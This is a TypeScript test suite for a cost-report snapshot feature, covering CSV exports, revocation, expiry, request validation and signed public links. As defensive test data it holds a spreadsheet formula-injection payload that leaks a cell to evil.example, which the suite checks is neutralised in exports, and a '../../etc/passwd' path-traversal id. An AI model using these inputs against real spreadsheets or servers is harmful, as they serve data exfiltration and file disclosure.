import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorld, type SimulatedWorld } from '@/emulator/sim';
import { DAY_MS, REEL_JOB, TEST_NOW_MS, shortScenario } from '@/emulator/sim/fixtures';
import { startEmulator, type RunningEmulator } from '@/emulator/server';
import { findPriceBook, type PriceBook } from '@/lib/domain/pricing';
import { DEFAULT_TIER_POLICY, type TierPolicy } from '@/lib/domain/tiers';
import { createClients, withCallCounter, type GcpClients } from '@/lib/gcp';
import type { Store } from '@/lib/store';
import { createTestDatabase, manualClock, type TestDatabase } from '@/test/support/databases';
import {
  SnapshotGoneError,
  SnapshotNotFoundError,
  SnapshotRevokeRefusedError,
} from '@/lib/snapshots/errors';
import { executionsCsv, tiersCsv } from '@/lib/snapshots/exports';
import { newSnapshotId } from '@/lib/snapshots/ids';
import { liveReportReader } from '@/lib/snapshots/live';
import { parseSnapshotRequest } from '@/lib/snapshots/request';
import {
  openSnapshot,
  revokeSnapshot,
  snapshotSummary,
  takeSnapshot,
} from '@/lib/snapshots/snapshots';
import { compareWithLive, describeComparison } from '@/lib/snapshots/compare';
import { createPublicLink } from '@/lib/snapshots/public-link-service';
import { checkPublicLink } from '@/lib/snapshots/public-links';

const INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
const POLICY: TierPolicy = {
  tiers: DEFAULT_TIER_POLICY.tiers.map((tier, i) =>
    i === 0 ? { ...tier, label: INJECTED } : tier,
  ),
};
const requester = { email: 'Requester@demo.tierwise', role: 'requester' };
/** The team's saved settings as the app reads them: the policy in force and a custom book. */
const TEAM_BOOK: PriceBook = {
  ...(findPriceBook('jobs-tier1') as PriceBook),
  id: 'custom',
  label: 'Team rates',
  asOf: '2026-11-01',
};
const saved = { policy: POLICY, priceBook: TEAM_BOOK };

let world: SimulatedWorld;
let emulator: RunningEmulator;
let clients: GcpClients;
let database: TestDatabase;
let store: Store;
const clock = manualClock(TEST_NOW_MS);

beforeAll(async () => {
  world = createWorld(shortScenario(2), { seed: 3, now: TEST_NOW_MS });
  emulator = await startEmulator({ world, port: 0 });
  clients = createClients({ emulatorHost: emulator.host });
  database = await createTestDatabase('sqlite');
  store = await database.open(clock.now);
});

afterAll(async () => {
  await clients.close();
  await emulator.stop();
  await database.drop();
});

const readLiveReport = () =>
  liveReportReader({
    clients: () => withCallCounter(clients),
    project: world.project,
    region: world.region,
    saved: async () => saved,
  });
const deps = () => ({ store, readLiveReport: readLiveReport() });
const share = (body: object) =>
  takeSnapshot(deps(), requester, parseSnapshotRequest({ job: REEL_JOB, days: 1, ...body }));

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe('a shared report', () => {
  it('keeps its figures byte for byte after new executions arrive and prices change; live differs', async () => {
    const taken = await share({ priceBook: 'jobs-tier1' });
    const before = (await openSnapshot(store, taken.id)).documentText;
    expect(taken.url).toBe(`/r/${taken.id}`);
    expect(taken.document.report.totals.executions).toBeGreaterThan(20);

    clock.advance(6 * 3_600_000);
    world.advanceTo(clock.now());
    const live = await readLiveReport()({
      job: REEL_JOB,
      window: { days: 1 },
      priceBook: 'services-request',
      policy: undefined,
      objective: 'balanced',
      nowMs: clock.now(),
    });

    const after = await openSnapshot(store, taken.id);
    expect(after.documentText).toBe(before);
    expect(after.document.report.inputs.priceBook.id).toBe('jobs-tier1');
    expect(after.document.report.inputs.window.endMs).toBe(TEST_NOW_MS);
    expect(live.report.inputs.priceBook.id).toBe('services-request');
    expect(live.report.totals.costUsd).not.toBeCloseTo(after.document.report.totals.costUsd, 4);
    const newer = live.records.executions.filter((e) => (e.startMs ?? e.createMs) >= TEST_NOW_MS);
    expect(newer.length).toBeGreaterThan(0);
  });

  it('lists every counted execution in its CSV, adding up to the tier costs', async () => {
    const taken = await share({});
    const csv = await text(executionsCsv(store, taken.id));
    const lines = csv.trimEnd().split('\r\n');
    const { report } = taken.document;
    expect(lines[0]).toMatch(/^execution,start,completion,status,tier,tier_label/);
    expect(lines).toHaveLength(report.totals.executions + 1);
    const costColumn = lines[0]!.split(',').indexOf('cost_usd');
    // The injected label holds commas: sum from the end of the line, where no text column is.
    const tail = lines[0]!.split(',').length - costColumn;
    const total = lines.slice(1).reduce((sum, line) => sum + Number(line.split(',').at(-tail)), 0);
    expect(total).toBeCloseTo(report.totals.costUsd, 8);
  });

  it('makes a formula-like tier label inert in both CSV exports', async () => {
    const taken = await share({});
    const tiers = tiersCsv(taken.document);
    const executions = await text(executionsCsv(store, taken.id));
    const inert = `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Open"")"`;
    expect(tiers).toContain(inert);
    expect(executions).toContain(inert);
    expect(`${tiers}\n${executions}`).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('answers 404 for unknown or malformed ids, 410 once revoked or expired', async () => {
    await expect(openSnapshot(store, newSnapshotId())).rejects.toBeInstanceOf(
      SnapshotNotFoundError,
    );
    await expect(openSnapshot(store, '../../etc/passwd')).rejects.toMatchObject({ status: 404 });

    const revoked = await share({});
    await expect(
      revokeSnapshot(store, { email: 'viewer@demo.tierwise', role: 'viewer' }, revoked.id),
    ).rejects.toBeInstanceOf(SnapshotRevokeRefusedError);
    await revokeSnapshot(
      store,
      { email: 'requester@demo.tierwise', role: 'requester' },
      revoked.id,
    );
    await expect(openSnapshot(store, revoked.id)).rejects.toThrow(/revoked on .* UTC/);
    expect(await snapshotSummary(store, revoked.id)).toMatchObject({
      status: 'revoked',
      job: REEL_JOB,
    });

    const expiring = await share({ expiresInDays: 1 });
    await expect(openSnapshot(store, expiring.id)).resolves.toBeDefined();
    clock.advance(DAY_MS);
    const gone = await openSnapshot(store, expiring.id).catch((error: unknown) => error);
    expect(gone).toBeInstanceOf(SnapshotGoneError);
    expect(gone).toMatchObject({ status: 410, reason: 'expired' });
  });

  it('lets an admin revoke anyone’s snapshot', async () => {
    const taken = await share({});
    await revokeSnapshot(store, { email: 'admin@demo.tierwise', role: 'admin' }, taken.id);
    await expect(openSnapshot(store, taken.id)).rejects.toMatchObject({ status: 410 });
  });

  it('summarises a snapshot for a change request', async () => {
    const taken = await share({ priceBook: 'jobs-tier2' });
    expect(await snapshotSummary(store, taken.id)).toMatchObject({
      id: taken.id,
      url: taken.url,
      takenBy: 'requester@demo.tierwise',
      priceBook: { id: 'jobs-tier2' },
      executions: taken.document.report.totals.executions,
      status: 'active',
    });
    expect(await snapshotSummary(store, newSnapshotId())).toBeUndefined();
  });
});

describe('share requests', () => {
  it.each([
    [{ days: 0 }, 'days'],
    [{ days: true }, 'days'],
    [{ days: [30] }, 'days'],
    [{ days: '0x1e' }, 'days'],
    [{ expiresInDays: '1e3' }, 'expiresInDays'],
    [{ startMs: 4_102_444_800_000, endMs: 4_102_531_200_000 }, 'startMs'],
    [{ days: 30, startMs: 1 }, 'days'],
    [{ startMs: 10 }, 'endMs'],
    [{ priceBook: 'cheap' }, 'priceBook'],
    [{ policy: '{"tiers": ' }, 'policy'],
    [{ policy: '{"tiers": [{"id": "small"}]}' }, 'policy'],
    [{ job: 'Not A Job' }, 'job'],
    [{ color: 'red' }, 'color'],
  ])('names the bad field of %j', (body, field) => {
    expect(() => parseSnapshotRequest({ job: REEL_JOB, ...body })).toThrow(
      expect.objectContaining({
        status: 400,
        fieldErrors: expect.objectContaining({ [field]: expect.any(Array) }),
      }),
    );
  });

  it('reads a typed decimal from a form field as the number it says', () => {
    expect(parseSnapshotRequest({ job: REEL_JOB, days: ' 14 ' }).window).toEqual({ days: 14 });
  });

  it('defaults to 30 days, the team’s book and tier policy, and the balanced objective', () => {
    expect(parseSnapshotRequest({ job: REEL_JOB })).toMatchObject({
      window: { days: 30 },
      priceBook: undefined,
      policy: undefined,
      objective: 'balanced',
    });
  });

  it('freezes the view on screen: the team’s custom rates and a tier policy from the link', async () => {
    const team = await share({ priceBook: 'custom' });
    expect(team.document.report.inputs.priceBook).toMatchObject({
      id: 'custom',
      label: 'Team rates',
    });
    expect(team.document.report.inputs.policy).toEqual(POLICY);
    const linked: TierPolicy = {
      tiers: [
        { id: 'short', label: 'Short', maxClipCount: 2 },
        { id: 'long', label: 'Long' },
      ],
    };
    const fromLink = await share({ policy: JSON.stringify(linked) });
    expect(fromLink.document.report.inputs.policy).toEqual(linked);
    expect(fromLink.document.report.tiers.map((tier) => tier.id)).toEqual(['short', 'long']);
    expect(fromLink.document.report.inputs.priceBook.id).toBe('custom');
  });
});

describe('compare with live', () => {
  it('counts executions since the snapshot and the change in cost over the same length of window', async () => {
    world.advanceTo(clock.now());
    const taken = await share({});
    expect(taken.document.report.totals.costUsd).toBeGreaterThan(0);
    clock.advance(6 * 3_600_000);
    world.advanceTo(clock.now());
    // As the snapshot page compares: the snapshot's own book and tier policy.
    const live = await readLiveReport()({
      job: REEL_JOB,
      window: { days: 1 },
      priceBook: taken.document.report.inputs.priceBook.id,
      policy: taken.document.report.inputs.policy,
      objective: 'balanced',
      nowMs: clock.now(),
    });
    const comparison = compareWithLive(taken.document.report, live.report, live.records.executions);
    const startedAfter = live.records.executions.filter(
      (e) =>
        e.status !== 'running' &&
        (e.startMs ?? e.createMs) >= taken.document.report.inputs.window.endMs,
    );
    expect(comparison.newerExecutions).toBe(startedAfter.length);
    expect(comparison.newerExecutions).toBeGreaterThan(0);
    expect(comparison.pricesChanged).toBe(false);
    const expected =
      ((live.report.totals.costUsd - taken.document.report.totals.costUsd) /
        taken.document.report.totals.costUsd) *
      100;
    expect(comparison.costChangePercent).toBeCloseTo(expected, 10);
    expect(describeComparison(comparison)).toMatch(
      /^Since then: [\d,]+ more executions?, cost [+−]\d+(\.\d)?%\.$/,
    );
  });
});

describe('public links', () => {
  const ON = { TIERWISE_PUBLIC_LINKS: 'on', TIERWISE_SHARE_SECRET: 's'.repeat(40) } as const;

  it('are signed for an open snapshot, end with it at the latest, and are refused once it is revoked', async () => {
    world.advanceTo(clock.now());
    const taken = await share({ expiresInDays: 2 });
    const link = await createPublicLink(ON, store, requester, taken.id, 30);
    expect(link.expiresAtMs).toBe(clock.now() + 2 * DAY_MS);
    const url = new URL(link.url, 'http://tierwise.test');
    expect(checkPublicLink(ON, taken.id, url.searchParams, clock.now())).toMatchObject({
      kind: 'valid',
    });
    await expect(
      createPublicLink({ ...ON, TIERWISE_PUBLIC_LINKS: 'off' }, store, requester, taken.id, 7),
    ).rejects.toThrow(/turned off/);
    await revokeSnapshot(store, requester, taken.id);
    await expect(createPublicLink(ON, store, requester, taken.id, 7)).rejects.toMatchObject({
      status: 410,
    });
  });
});
